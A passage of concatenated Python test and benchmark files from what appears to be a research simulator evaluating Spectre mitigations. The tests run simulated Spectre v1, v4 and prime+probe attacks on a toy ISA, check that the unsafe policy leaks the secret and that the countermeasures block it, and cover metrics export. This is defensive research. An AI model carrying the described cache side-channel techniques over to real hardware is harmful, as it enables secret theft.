    bare = DbtSystem(gemm, policy=MitigationPolicy.GHOSTBUSTERS,
                     engine_config=engine_config,
                     interpreter=interpreter).run()
    result, report = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                                 engine_config=engine_config,
                                 interpreter=interpreter)
    assert _fingerprint(result) == _fingerprint(bare)
    assert report["total_seconds"] > 0


def test_detach_restores_instance_attributes(gemm):
    profiler = HostProfiler()
    system = DbtSystem(gemm, policy=MitigationPolicy.UNSAFE,
                       profiler=profiler)
    wrapped = {"run": system.run,
               "execute_block": system.core.execute_block}
    system.run()
    profiler.detach()
    for name, before in wrapped.items():
        obj = system if name == "run" else system.core
        assert getattr(obj, name) is not before
    # The wrappers were instance attributes; after detach the bound
    # class methods are back (no stale instance override).
    assert "execute_block" not in vars(system.core)


def test_profiler_single_attach_enforced(gemm):
    profiler = HostProfiler()
    DbtSystem(gemm, policy=MitigationPolicy.UNSAFE, profiler=profiler)
    with pytest.raises(RuntimeError):
        profiler.attach(object())


# ---------------------------------------------------------------------------
# Phase and per-block attribution.
# ---------------------------------------------------------------------------

def test_phase_attribution_per_tier(gemm):
    _, fast = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                          interpreter="fast")
    assert fast["phases"][PHASE_TRANSLATION]["calls"] > 0
    assert fast["phases"][PHASE_SCHEDULING]["calls"] > 0
    assert fast["phases"][PHASE_FAST]["calls"] > 0
    assert PHASE_COMPILED not in fast["phases"]

    _, reference = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                               interpreter="reference")
    assert reference["phases"][PHASE_REFERENCE]["calls"] > 0
    assert PHASE_FAST not in reference["phases"]

    _, compiled = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                              interpreter="compiled")
    assert compiled["phases"][PHASE_COMPILED]["calls"] > 0
    assert compiled["phases"][PHASE_CODEGEN]["calls"] > 0
    # Cold blocks execute on the fast path until tier-3 kicks in.
    tiers = {row["tier"] for row in compiled["blocks"]}
    assert PHASE_COMPILED in tiers


def test_chain_and_tcache_phases(gemm, tmp_path):
    _, chained = profile_run(gemm, MitigationPolicy.UNSAFE,
                             engine_config=DbtEngineConfig(chain=True),
                             interpreter="fast")
    assert chained["phases"][PHASE_CHAIN]["calls"] > 0

    _, persisted = profile_run(gemm, MitigationPolicy.UNSAFE,
                               interpreter="compiled",
                               tcache_dir=tmp_path)
    assert persisted["phases"][PHASE_TCACHE]["calls"] > 0


def test_block_rows_and_codegen_cost(gemm):
    _, report = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                            interpreter="compiled")
    compiled_rows = [row for row in report["blocks"]
                     if row["tier"] == PHASE_COMPILED]
    assert compiled_rows
    for row in compiled_rows:
        assert row["executions"] > 0
        assert row["codegen_seconds"] > 0
    # Rendering never throws and carries the phase table.
    text = format_profile(report)
    assert "hottest blocks" in text and PHASE_COMPILED in text


# ---------------------------------------------------------------------------
# Amortization verdicts (the acceptance pair).
# ---------------------------------------------------------------------------

def test_amortization_small_kernel_prefers_fast(gemm):
    _, fast = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                          interpreter="fast")
    _, compiled = profile_run(gemm, MitigationPolicy.GHOSTBUSTERS,
                              interpreter="compiled")
    report = amortization_report(fast, compiled, workload="gemm")
    assert report["blocks"]
    assert report["preferred_tier"] == "fast"
    assert "prefer the fast tier" in format_amortization(report)


def test_amortization_attack_prefers_compiled():
    import gc

    # A longer secret multiplies the attacker loop's executions while
    # the compile cost stays per-block, so the verdict's margin is
    # wide enough to survive host timing noise; GC stays off during
    # the timed runs for the same reason (the bench does both too).
    program = build_attack_program(AttackVariant.SPECTRE_V1,
                                   secret=b"GHOSTBUSTERS!" * 3)
    gc.disable()
    try:
        _, fast = profile_run(program, MitigationPolicy.UNSAFE,
                              interpreter="fast")
        _, compiled = profile_run(program, MitigationPolicy.UNSAFE,
                                  interpreter="compiled")
    finally:
        gc.enable()
    report = amortization_report(fast, compiled, workload="spectre_v1")
    assert report["preferred_tier"] == "compiled"
    assert report["total_saved_ms"] > report["total_compile_ms"]
