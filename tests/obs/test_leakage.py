"""Leakage meters: per-policy attack telemetry and its surfacing."""

import pytest

from repro.attacks.harness import AttackVariant, attack_matrix, run_attack
from repro.obs import LeakageReport, leakage_table
from repro.obs.leakage import recovered_prefix
from repro.security.policy import ALL_POLICIES, MitigationPolicy


def test_unsafe_v4_leaks_with_speculative_probes():
    result = run_attack(AttackVariant.SPECTRE_V4,
                        MitigationPolicy.UNSAFE, measure=True)
    leakage = result.leakage
    assert leakage is not None
    assert leakage.leaked and leakage.accuracy == 1.0
    assert leakage.bytes_recovered == leakage.secret_length
    # The covert channel's transmitter fired once per secret byte.
    assert leakage.speculative_miss_probes >= leakage.secret_length
    assert leakage.rollbacks > 0
    assert leakage.cflushes > 0


def test_mitigated_v4_squashes_the_leak():
    result = run_attack(AttackVariant.SPECTRE_V4,
                        MitigationPolicy.GHOSTBUSTERS, measure=True)
    leakage = result.leakage
    assert not leakage.leaked and leakage.bytes_recovered == 0
    # The mitigation is visible in the meters: rollbacks still squash
    # speculative loads, but no probe ever misses for the attacker.
    assert leakage.rollbacks > 0
    assert leakage.squashed_speculative_loads > 0
    assert leakage.wasted_speculative_cycles > 0
    assert leakage.speculative_miss_probes == 0


def test_v1_blocked_at_translation_has_no_rollback_cost():
    """GHOSTBUSTERS pins the v1 pattern at translation time, so the
    meters show zero rollback traffic — the paper's 'cheap when it
    matters' claim in one row."""
    result = run_attack(AttackVariant.SPECTRE_V1,
                        MitigationPolicy.GHOSTBUSTERS, measure=True)
    assert not result.leakage.leaked
    assert result.leakage.rollbacks == 0
    assert result.leakage.wasted_speculative_cycles == 0


def test_measure_does_not_change_results():
    bare = run_attack(AttackVariant.SPECTRE_V4, MitigationPolicy.FENCE)
    measured = run_attack(AttackVariant.SPECTRE_V4, MitigationPolicy.FENCE,
                          measure=True)
    assert bare.recovered == measured.recovered
    assert bare.run.cycles == measured.run.cycles
    assert bare.leakage is None and measured.leakage is not None


def test_leakage_reports_survive_the_parallel_matrix():
    matrix = attack_matrix(jobs=2, measure=True,
                           variants=(AttackVariant.SPECTRE_V4,),
                           policies=(MitigationPolicy.UNSAFE,
                                     MitigationPolicy.GHOSTBUSTERS))
    row = matrix[AttackVariant.SPECTRE_V4]
    assert row[MitigationPolicy.UNSAFE].leakage.leaked
    assert not row[MitigationPolicy.GHOSTBUSTERS].leakage.leaked
    serial = run_attack(AttackVariant.SPECTRE_V4, MitigationPolicy.UNSAFE,
                        measure=True)
    assert row[MitigationPolicy.UNSAFE].leakage == serial.leakage


def test_leakage_table_renders_every_policy():
    reports = [run_attack(AttackVariant.SPECTRE_V4, policy,
                          measure=True).leakage
               for policy in ALL_POLICIES]
    table = leakage_table(reports)
    for policy in ALL_POLICIES:
        assert policy.value in table
    assert "squashed" in table and "spec-miss" in table
    assert leakage_table([]) == "(no leakage reports)"


def test_recovered_prefix():
    assert recovered_prefix(b"GHOST...", b"GHOST") == 5
    assert recovered_prefix(b"GHxST", b"GHOST") == 4
    assert recovered_prefix(b"", b"GHOST") == 0


def test_report_is_picklable():
    import pickle

    report = run_attack(AttackVariant.SPECTRE_V1, MitigationPolicy.UNSAFE,
                        measure=True).leakage
    clone = pickle.loads(pickle.dumps(report))
    assert isinstance(clone, LeakageReport) and clone == report
