"""Metrics registry: counters, gauges, histogram bucketing, exporters."""

import json

import pytest

from repro.obs import Histogram, MetricError, MetricsRegistry


def test_counter_and_gauge_basics():
    registry = MetricsRegistry()
    counter = registry.counter("a.b_total", "help text")
    counter.inc()
    counter.inc(4)
    assert registry.value("a.b_total") == 5
    with pytest.raises(MetricError):
        counter.inc(-1)

    gauge = registry.gauge("g")
    gauge.set(10)
    gauge.dec(3)
    assert registry.value("g") == 7


def test_get_or_create_is_idempotent_but_kind_checked():
    registry = MetricsRegistry()
    assert registry.counter("x") is registry.counter("x")
    with pytest.raises(MetricError):
        registry.gauge("x")
    with pytest.raises(MetricError):
        registry.counter("not a name!")


def test_histogram_bucketing_edges():
    histogram = Histogram("h", buckets=(3, 30))
    # Bounds are inclusive uppers: 3 -> first bucket, 4 -> second,
    # 30 -> second, 31 -> +Inf.
    for value in (0, 3, 4, 30, 31, 1000):
        histogram.observe(value)
    assert histogram.counts == [2, 2, 2]
    assert histogram.count == 6
    assert histogram.sum == 0 + 3 + 4 + 30 + 31 + 1000
    assert histogram.cumulative() == [2, 4, 6]


def test_histogram_rejects_bad_buckets():
    with pytest.raises(MetricError):
        Histogram("h", buckets=())
    with pytest.raises(MetricError):
        Histogram("h", buckets=(5, 5))
    with pytest.raises(MetricError):
        Histogram("h", buckets=(5, 4))


def test_value_refuses_histograms():
    registry = MetricsRegistry()
    registry.histogram("h", buckets=(1,))
    with pytest.raises(MetricError):
        registry.value("h")
    assert registry.value("missing") == 0


def test_json_export_round_trip():
    registry = MetricsRegistry()
    registry.counter("c").inc(3)
    registry.gauge("g").set(1.5)
    registry.histogram("h", buckets=(1, 10)).observe(4)
    doc = json.loads(registry.to_json())
    assert doc["counters"] == {"c": 3}
    assert doc["gauges"] == {"g": 1.5}
    assert doc["histograms"]["h"]["buckets"] == [1, 10]
    assert doc["histograms"]["h"]["counts"] == [0, 1, 0]
    assert doc["histograms"]["h"]["count"] == 1


def test_prometheus_export_format():
    registry = MetricsRegistry()
    registry.counter("mcb.rollbacks_total", "rollbacks").inc(2)
    histogram = registry.histogram("mem.load_latency_cycles", buckets=(3, 30))
    histogram.observe(3)
    histogram.observe(31)
    text = registry.to_prometheus()
    assert "# HELP repro_mcb_rollbacks_total rollbacks" in text
    assert "# TYPE repro_mcb_rollbacks_total counter" in text
    assert "repro_mcb_rollbacks_total 2" in text
    # Histogram: cumulative buckets plus +Inf, _sum and _count series.
    assert 'repro_mem_load_latency_cycles_bucket{le="3"} 1' in text
    assert 'repro_mem_load_latency_cycles_bucket{le="30"} 1' in text
    assert 'repro_mem_load_latency_cycles_bucket{le="+Inf"} 2' in text
    assert "repro_mem_load_latency_cycles_sum 34" in text
    assert "repro_mem_load_latency_cycles_count 2" in text


# ---------------------------------------------------------------------------
# Prometheus exporter edge cases.
# ---------------------------------------------------------------------------

def test_prometheus_help_escaping():
    from repro.obs.registry import escape_help

    assert escape_help("a\\b") == "a\\\\b"
    assert escape_help("line one\nline two") == "line one\\nline two"
    assert escape_help('quotes "stay"') == 'quotes "stay"'

    registry = MetricsRegistry()
    registry.counter("weird_total", help="path C:\\tmp\nsecond line")
    text = registry.to_prometheus()
    help_lines = [line for line in text.splitlines()
                  if line.startswith("# HELP")]
    # The multi-line help stays one physical line, fully escaped.
    assert help_lines == [
        "# HELP repro_weird_total path C:\\\\tmp\\nsecond line"]


def test_prometheus_label_value_escaping():
    from repro.obs.registry import escape_label_value

    assert escape_label_value('say "hi"') == 'say \\"hi\\"'
    assert escape_label_value("back\\slash") == "back\\\\slash"
    assert escape_label_value("new\nline") == "new\\nline"


def test_prometheus_histogram_buckets_cumulative_and_monotonic():
    registry = MetricsRegistry()
    histogram = registry.histogram("lat", buckets=(1, 5, 10))
    for value in (0, 1, 2, 7, 11, 100):
        histogram.observe(value)
    cumulative = histogram.cumulative()
    assert cumulative == sorted(cumulative)  # monotone by construction
    assert cumulative[-1] == histogram.count

    text = registry.to_prometheus()
    counts = [int(line.rsplit(" ", 1)[1]) for line in text.splitlines()
              if "_bucket{" in line]
    assert counts == [2, 3, 4, 6]
    assert counts == sorted(counts)
    assert 'le="+Inf"} 6' in text
    assert "repro_lat_count 6" in text


def test_prometheus_merged_registry_equals_summed_serial_registries():
    """Merging per-worker envelopes then exporting equals exporting one
    registry that saw all the traffic (modulo pipeline.* gauges)."""
    from repro.obs.pipeline import ENVELOPE_VERSION, merge_envelopes

    serial = MetricsRegistry()
    envelopes = []
    for pid, increments in ((1, 3), (2, 4)):
        worker = MetricsRegistry()
        for registry in (serial, worker):
            registry.counter("hits_total").inc(increments)
            registry.histogram("lat", buckets=(1, 10)).observe(increments)
        envelopes.append({"version": ENVELOPE_VERSION, "pid": pid,
                          "label": "", "meta": {},
                          "metrics": worker.to_dict()})
    merged = merge_envelopes(envelopes).registry
    assert merged.value("hits_total") == serial.value("hits_total") == 7
    serial_lines = set(serial.to_prometheus().splitlines())
    merged_lines = set(merged.to_prometheus().splitlines())
    assert serial_lines <= merged_lines  # extras are pipeline.* gauges
    extras = {line.split("{")[0].split(" ")[-2] if "#" not in line
              else line for line in merged_lines - serial_lines}
    assert all("pipeline" in str(item) for item in extras)
