"""Prime+probe (flushless) Spectre variant tests."""

import pytest

from repro.attacks.primeprobe import (
    PrimeProbeConfig,
    RESERVED_SETS,
    build_program,
    direct_mapped_config,
    run_primeprobe,
)
from repro.isa.opcodes import Mnemonic
from repro.security.policy import MitigationPolicy

SECRET = b"GB!"


@pytest.fixture(scope="module")
def outcomes():
    return {
        policy: run_primeprobe(policy, SECRET)
        for policy in MitigationPolicy
    }


def test_unsafe_leaks_without_any_flush(outcomes):
    recovered, result = outcomes[MitigationPolicy.UNSAFE]
    assert recovered == SECRET
    assert result.exit_code == 0


def test_program_contains_no_cflush():
    program = build_program(PrimeProbeConfig(secret=SECRET))
    mnemonics = {inst.mnemonic for inst in program.instructions()}
    assert Mnemonic.CFLUSH not in mnemonics


@pytest.mark.parametrize("policy", [
    MitigationPolicy.GHOSTBUSTERS,
    MitigationPolicy.FENCE,
    MitigationPolicy.NO_SPECULATION,
])
def test_mitigations_block_the_flushless_channel(outcomes, policy):
    recovered, _ = outcomes[policy]
    assert recovered != SECRET
    assert all(byte == 0 for byte in recovered)


def test_direct_mapped_geometry():
    config = direct_mapped_config()
    assert config.cache.associativity == 1
    assert config.cache.num_sets == 256  # one set per byte value


def test_secret_bytes_must_avoid_reserved_sets():
    with pytest.raises(ValueError, match="reserved"):
        PrimeProbeConfig(secret=bytes([RESERVED_SETS - 1]))
    with pytest.raises(ValueError):
        PrimeProbeConfig(secret=b"")


def test_arrays_are_cache_aligned():
    program = build_program(PrimeProbeConfig(secret=SECRET))
    assert program.symbol("array_val") % (1 << 14) == 0
    assert program.symbol("probe_arr") % (1 << 14) == 0
