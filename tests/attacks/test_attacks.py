"""End-to-end Spectre PoC tests (paper Section V-A).

These are the headline results: both variants leak the full secret on the
unsafe configuration and are completely blocked by each countermeasure.
A short secret keeps the runs fast; the benchmark harness exercises the
full-length secret.
"""

import pytest

from repro.attacks.harness import (
    AttackVariant,
    attack_matrix,
    build_attack_program,
    format_matrix,
    run_attack,
)
from repro.attacks.spectre_v1 import SpectreV1Config
from repro.attacks.spectre_v4 import SpectreV4Config
from repro.security.policy import MitigationPolicy

SECRET = b"GB!"


@pytest.fixture(scope="module")
def matrix():
    return attack_matrix(secret=SECRET)


@pytest.mark.parametrize("variant", list(AttackVariant))
def test_unsafe_leaks_everything(matrix, variant):
    result = matrix[variant][MitigationPolicy.UNSAFE]
    assert result.leaked
    assert result.recovered == SECRET
    assert result.accuracy == 1.0


@pytest.mark.parametrize("variant", list(AttackVariant))
@pytest.mark.parametrize("policy", [
    MitigationPolicy.GHOSTBUSTERS,
    MitigationPolicy.FENCE,
    MitigationPolicy.NO_SPECULATION,
])
def test_countermeasures_block_the_leak(matrix, variant, policy):
    result = matrix[variant][policy]
    assert not result.leaked
    assert result.bytes_recovered == 0


def test_v4_rolls_back_whenever_it_speculates(matrix):
    unsafe = matrix[AttackVariant.SPECTRE_V4][MitigationPolicy.UNSAFE]
    assert unsafe.run.rollbacks > 0
    # GhostBusters leaves the first speculative load in place: the MCB
    # still fires, the leak is gone (Figure 3C semantics).
    mitigated = matrix[AttackVariant.SPECTRE_V4][MitigationPolicy.GHOSTBUSTERS]
    assert mitigated.run.rollbacks > 0
    no_spec = matrix[AttackVariant.SPECTRE_V4][MitigationPolicy.NO_SPECULATION]
    assert no_spec.run.rollbacks == 0


def test_v1_never_rolls_back(matrix):
    # Branch speculation uses hidden registers, not the MCB.
    unsafe = matrix[AttackVariant.SPECTRE_V1][MitigationPolicy.UNSAFE]
    assert unsafe.run.rollbacks == 0


def test_detection_happens_under_analyzing_policies(matrix):
    for variant in AttackVariant:
        for policy in (MitigationPolicy.GHOSTBUSTERS, MitigationPolicy.FENCE):
            result = matrix[variant][policy]
            assert result.run.engine.spectre_patterns_detected > 0, (
                variant, policy,
            )


def test_architectural_results_identical_across_policies(matrix):
    # The attack program's architectural behaviour (exit code) never
    # changes; only the micro-architectural leak does.
    for variant in AttackVariant:
        codes = {matrix[variant][p].run.exit_code for p in matrix[variant]}
        assert codes == {0}


def test_matrix_formatting(matrix):
    text = format_matrix(matrix)
    assert "spectre_v1" in text and "spectre_v4" in text
    assert "LEAKED" in text and "blocked" in text


def test_config_validation():
    with pytest.raises(ValueError):
        SpectreV1Config(secret=b"")
    with pytest.raises(ValueError):
        SpectreV1Config(secret=b"a\x00b")
    with pytest.raises(ValueError):
        SpectreV4Config(secret=b"\x00")


def test_build_program_produces_symbols():
    program = build_attack_program(AttackVariant.SPECTRE_V1, SECRET)
    for symbol in ("buffer", "secret", "array_val", "recovered", "victim"):
        assert symbol in program.symbols
    planted = program.data[
        program.symbol("secret") - program.data_base:
        program.symbol("secret") - program.data_base + len(SECRET)
    ]
    assert planted == SECRET


def test_run_attack_single():
    result = run_attack(
        AttackVariant.SPECTRE_V1, MitigationPolicy.UNSAFE, secret=b"Z",
    )
    assert result.leaked
    assert "LEAKED" in result.describe()
