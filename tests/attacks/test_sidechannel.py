"""Side-channel primitive tests: calibration and snippet generators."""

import pytest

from repro.attacks.sidechannel import (
    CalibrationResult,
    DEFAULT_THRESHOLD,
    build_calibration_program,
    flush_probe_array,
    probe_and_classify,
    record_recovered,
    run_calibration,
    write_and_exit,
)
from repro.isa.assembler import assemble
from repro.security.policy import MitigationPolicy


def test_calibration_separates_hits_from_misses():
    calibration = run_calibration(samples=16)
    assert calibration.separation > 0, (
        "the timed channel must cleanly separate hits from misses"
    )
    assert calibration.max_hit < DEFAULT_THRESHOLD < calibration.min_miss


def test_calibration_is_stable_across_policies():
    # The timing channel itself exists regardless of the policy — the
    # countermeasures stop the *speculative access*, not the cache.
    for policy in (MitigationPolicy.UNSAFE, MitigationPolicy.NO_SPECULATION):
        calibration = run_calibration(samples=8, policy=policy)
        assert calibration.separation > 0


def test_calibration_result_helpers():
    result = CalibrationResult(miss_times=bytes([30, 31]), hit_times=bytes([4, 5]))
    assert result.min_miss == 30
    assert result.max_hit == 5
    assert result.separation == 25
    assert result.suggested_threshold() == 17


def test_snippets_assemble_standalone():
    source = """
.equ SECRET_LEN, 1
_start:
    li s6, 0
%s
%s
%s
%s
.data
.align 6
array_val:
    .space 16384
recovered:
    .space 8
""" % (
        flush_probe_array("f"),
        probe_and_classify("p"),
        record_recovered(),
        write_and_exit(),
    )
    program = assemble(source)
    assert program.instruction_count() > 20


def test_probe_skips_entry_zero_by_default():
    snippet = probe_and_classify("p")
    assert "li s1, 1" in snippet
    snippet = probe_and_classify("p", skip_zero=False)
    assert "li s1, 0" in snippet


def test_calibration_program_builds():
    program = build_calibration_program(samples=4)
    assert "target" in program.symbols
