"""Ablation A1 — issue width vs. the value of DBT speculation.

The paper's background argues DBT-based processors can afford wider
in-order machines (Denver is 7-wide, Carmel 10-wide) because they skip
the OoO hardware.  This ablation measures how the cost of turning
speculation off scales with issue width on our platform: wider machines
have more empty slots for hoisted loads, so speculation should matter
*more* as the machine widens (until the kernels run out of ILP).
"""

import pytest

from repro.interp import run_program
from repro.kernels import build_kernel_program, gemm, jacobi_1d
from repro.platform import compare_policies
from repro.platform.system import DbtSystem
from repro.security.policy import MitigationPolicy
from repro.vliw.config import DEFAULT_SLOTS, UnitClass, VliwConfig, wide_config

from conftest import save_result


def narrow_config() -> VliwConfig:
    """A 2-wide machine: control/ALU slot + memory/multiply slot."""
    return VliwConfig(slots=(
        frozenset({UnitClass.ALU, UnitClass.BRANCH, UnitClass.SYSTEM}),
        frozenset({UnitClass.ALU, UnitClass.MEM, UnitClass.MUL, UnitClass.DIV}),
    ))


MACHINES = {
    "2-wide": narrow_config,
    "4-wide": VliwConfig,
    "8-wide": wide_config,
}

KERNELS = {"gemm": lambda: gemm(10), "jacobi-1d": lambda: jacobi_1d(160, 8)}


@pytest.fixture(scope="module")
def width_data():
    rows = ["%-10s %-10s %12s %16s" % ("machine", "kernel", "unsafe cyc", "no-spec cost")]
    data = {}
    for machine_name, machine_factory in MACHINES.items():
        config = machine_factory()
        for kernel_name, kernel_factory in KERNELS.items():
            program = build_kernel_program(kernel_factory())
            expected = run_program(program).exit_code
            comparison = compare_policies(
                "%s/%s" % (machine_name, kernel_name), program,
                policies=(MitigationPolicy.UNSAFE, MitigationPolicy.NO_SPECULATION),
                vliw_config=config,
                expect_exit_code=expected,
            )
            ratio = comparison.slowdown("no speculation")
            rows.append("%-10s %-10s %12d %15.1f%%" % (
                machine_name, kernel_name,
                comparison.results["unsafe"].cycles, 100.0 * ratio,
            ))
            data[(machine_name, kernel_name)] = (
                comparison.results["unsafe"].cycles, ratio,
            )
    save_result("A1_width_ablation.txt", "\n".join(rows))
    return data


def test_wider_machines_run_faster_unsafe(width_data):
    for kernel in KERNELS:
        narrow = width_data[("2-wide", kernel)][0]
        wide = width_data[("8-wide", kernel)][0]
        assert wide < narrow, kernel


def test_speculation_matters_on_every_width(width_data):
    for key, (_, ratio) in width_data.items():
        assert ratio > 1.02, key


def test_speculation_value_grows_with_width(width_data):
    # The 8-wide machine loses at least as much (relatively) as the
    # 2-wide machine when speculation is disabled.
    for kernel in KERNELS:
        narrow_ratio = width_data[("2-wide", kernel)][1]
        wide_ratio = width_data[("8-wide", kernel)][1]
        assert wide_ratio >= narrow_ratio - 0.05, kernel


@pytest.mark.parametrize("machine", sorted(MACHINES))
def test_width_run_time(machine, benchmark, width_data):
    config = MACHINES[machine]()
    program = build_kernel_program(gemm(10))

    def run_once():
        return DbtSystem(program, vliw_config=config).run()

    result = benchmark.pedantic(run_once, rounds=1, iterations=1)
    benchmark.extra_info["guest_cycles"] = result.cycles
