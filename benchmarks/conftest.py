"""Shared infrastructure for the benchmark harness.

Every benchmark module regenerates one table/figure of the paper's
evaluation (see DESIGN.md's experiment index).  Results are printed at
the end of the module and archived under ``benchmarks/results/`` so the
paper-vs-measured comparison in EXPERIMENTS.md can be refreshed.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

RESULTS_DIR = Path(__file__).parent / "results"


def save_result(name: str, text: str) -> None:
    """Print a result table and archive it under benchmarks/results/."""
    RESULTS_DIR.mkdir(exist_ok=True)
    path = RESULTS_DIR / name
    path.write_text(text if text.endswith("\n") else text + "\n")
    banner = "=" * 72
    print("\n%s\n%s\n%s\n%s" % (banner, name, banner, text))


@pytest.fixture(scope="session")
def results_dir() -> Path:
    RESULTS_DIR.mkdir(exist_ok=True)
    return RESULTS_DIR
