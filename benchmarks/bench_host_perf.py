"""Host-perf baseline — simulator throughput, not guest cycle counts.

Unlike the other benchmark modules, this one measures the *host*: how
many guest instructions per second the platform simulates, how much the
finalized fast path (``repro.vliw.fastpath``) gains over the seed
reference interpreter, and how the parallel sweep runner scales with
``--jobs``.  It regenerates ``benchmarks/results/BENCH_host.json`` (the
file ``repro bench-host`` writes) plus a human-readable summary.

Quick mode (``REPRO_BENCH_QUICK=1``, used by the CI perf-smoke job)
shortens the secret and drops to one kernel so the whole module runs in
seconds.  Wall-clock numbers are only comparable within one machine;
the acceptance bar that travels is the fast-path speedup ratio.
"""

import json
import os

import pytest

from repro.benchhost import format_report, run_bench_host

from conftest import save_result

QUICK = os.environ.get("REPRO_BENCH_QUICK", "") not in ("", "0")


@pytest.fixture(scope="module")
def host_report():
    return run_bench_host(quick=QUICK)


def test_fast_path_beats_reference(host_report):
    e1 = host_report["e1_attack_matrix"]
    assert e1["reference"]["guest_instructions"] == \
        e1["fast"]["guest_instructions"]
    # The tentpole bar is >= 2x on the full E1 matrix; quick mode runs
    # are startup-dominated, so only require parity there.
    floor = 1.0 if QUICK else 2.0
    assert e1["fast_path_speedup"] >= floor, (
        "fast path speedup %.2fx below %.1fx floor"
        % (e1["fast_path_speedup"], floor))


def test_chained_dispatch_identical_and_not_slower(host_report):
    """Block chaining is a dispatch-layer optimization: the chained E1
    matrix must simulate the exact same guest work (instruction and
    cycle counts bit-identical to the unchained fast path), actually
    chain (links formed, chains dispatched, every break attributed),
    and never cost host time.  The measured gain on this matrix is
    Amdahl-bounded — dispatch is a small share of the wall once
    intra-block execution runs on the fast path — so the travelling bar
    is parity, not a ratio; see docs/PERFORMANCE.md §4."""
    e1 = host_report["e1_attack_matrix"]
    chained = e1["fast_chained"]
    assert chained["guest_instructions"] == e1["fast"]["guest_instructions"]
    assert chained["guest_cycles"] == e1["fast"]["guest_cycles"]
    stats = chained["chain"]
    assert stats["links"] > 0
    assert stats["dispatches"] > stats["links"]
    assert stats["breaks"] and all(
        reason in ("hot", "rollback", "syscall", "miss", "budget")
        for reason in stats["breaks"])
    assert e1["chain_speedup"] > 0
    # Quick mode takes one noisy wall sample per configuration — a
    # ratio bar there would flake, so parity is only enforced on the
    # best-of-N full run.
    if not QUICK:
        assert e1["chain_speedup"] >= 1.0, (
            "chained dispatch slower than unchained: %.2fx"
            % e1["chain_speedup"])


def test_kernel_rows_cover_both_interpreters(host_report):
    rows = host_report["kernels"]
    assert rows, "no kernel measurements"
    by_key = {(r["kernel"], r["policy"], r["interpreter"]) for r in rows}
    kernels = {r["kernel"] for r in rows}
    policies = {r["policy"] for r in rows}
    assert len(by_key) == len(kernels) * len(policies) * 2


def test_sweep_scaling_recorded(host_report):
    sweep = host_report["figure4_sweep"]
    assert set(sweep["wall_seconds_by_jobs"]) == {"1", "4"}
    assert all(wall > 0 for wall in sweep["wall_seconds_by_jobs"].values())


def test_write_host_report(host_report, results_dir):
    save_result("BENCH_host.txt", format_report(host_report))
    path = results_dir / "BENCH_host.json"
    path.write_text(json.dumps(host_report, indent=2, sort_keys=True) + "\n")
