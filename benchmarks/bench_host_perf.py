"""Host-perf baseline — simulator throughput, not guest cycle counts.

Unlike the other benchmark modules, this one measures the *host*: how
many guest instructions per second the platform simulates, how much the
finalized fast path (``repro.vliw.fastpath``) gains over the seed
reference interpreter, how much more the tier-3 compiled blocks
(``repro.vliw.codegen``) gain on top, and how the parallel sweep runner
scales with ``--jobs``.  It regenerates
``benchmarks/results/BENCH_host.json`` (the file ``repro bench-host``
writes) plus a human-readable summary.

Regression gating against the *stored* results file only happens when
that file was produced by the same schema on the same host — wall-clock
ratios do not travel across machines or report formats, so a mismatch
means "refuse to gate", never "silently compare".

Quick mode (``REPRO_BENCH_QUICK=1``, used by the CI perf-smoke job)
shortens the secret and drops to one kernel so the whole module runs in
seconds.  Wall-clock numbers are only comparable within one machine;
the acceptance bars that travel are the speedup ratios.
"""

import json
import os

import pytest

from repro.benchhost import SCHEMA, format_report, run_bench_host

from conftest import save_result

QUICK = os.environ.get("REPRO_BENCH_QUICK", "") not in ("", "0")

#: How much a stored-baseline speedup ratio may degrade before the gate
#: fails; wall ratios on one machine still carry scheduler noise.
BASELINE_TOLERANCE = 0.75


@pytest.fixture(scope="module")
def host_report():
    return run_bench_host(quick=QUICK)


# ---------------------------------------------------------------------------
# Stored-baseline staleness guard.
# ---------------------------------------------------------------------------

def load_gating_baseline(path, current_report):
    """The stored report, or ``None`` with a reason when gating against
    it would be meaningless: missing/unreadable file, a different
    report schema, or a different host.
    """
    try:
        stored = json.loads(path.read_text())
    except (OSError, ValueError):
        return None, "no readable stored baseline at %s" % path
    if stored.get("schema") != current_report["schema"]:
        return None, ("stored baseline schema %r != current %r"
                      % (stored.get("schema"), current_report["schema"]))
    if stored.get("host") != current_report["host"]:
        return None, ("stored baseline host %r != current %r"
                      % (stored.get("host"), current_report["host"]))
    return stored, ""


def test_gating_baseline_guard_refuses_mismatches(tmp_path):
    current = {"schema": SCHEMA,
               "host": {"python": "3.12.0", "machine": "x86_64"}}
    path = tmp_path / "BENCH_host.json"

    stored, reason = load_gating_baseline(path, current)
    assert stored is None and "no readable" in reason

    path.write_text("{not json")
    stored, reason = load_gating_baseline(path, current)
    assert stored is None and "no readable" in reason

    # Old schema (the pre-tier-3 format): refuse.
    path.write_text(json.dumps({"schema": "repro.bench_host/1",
                                "host": current["host"]}))
    stored, reason = load_gating_baseline(path, current)
    assert stored is None and "schema" in reason

    # Same schema, different machine: refuse.
    path.write_text(json.dumps({
        "schema": SCHEMA,
        "host": {"python": "3.12.0", "machine": "aarch64"}}))
    stored, reason = load_gating_baseline(path, current)
    assert stored is None and "host" in reason

    # Same schema, same host: gate.
    path.write_text(json.dumps({"schema": SCHEMA, "host": current["host"],
                                "e1_attack_matrix": {}}))
    stored, reason = load_gating_baseline(path, current)
    assert stored is not None and reason == ""


def test_no_regression_vs_stored_baseline(host_report, results_dir):
    """Gate the headline ratios against the committed results file —
    but only when it demonstrably came from this schema and this host."""
    stored, reason = load_gating_baseline(
        results_dir / "BENCH_host.json", host_report)
    if stored is None:
        pytest.skip("refusing to gate: " + reason)
    if QUICK != stored.get("quick", False):
        pytest.skip("refusing to gate: stored baseline quick=%r, run is "
                    "quick=%r" % (stored.get("quick", False), QUICK))
    current = host_report["e1_attack_matrix"]
    baseline = stored["e1_attack_matrix"]
    for ratio in ("fast_path_speedup", "compiled_speedup"):
        floor = baseline[ratio] * BASELINE_TOLERANCE
        assert current[ratio] >= floor, (
            "%s regressed: %.2fx vs stored %.2fx (floor %.2fx)"
            % (ratio, current[ratio], baseline[ratio], floor))


# ---------------------------------------------------------------------------
# The tier ladder on the E1 attack matrix.
# ---------------------------------------------------------------------------

def test_fast_path_beats_reference(host_report):
    e1 = host_report["e1_attack_matrix"]
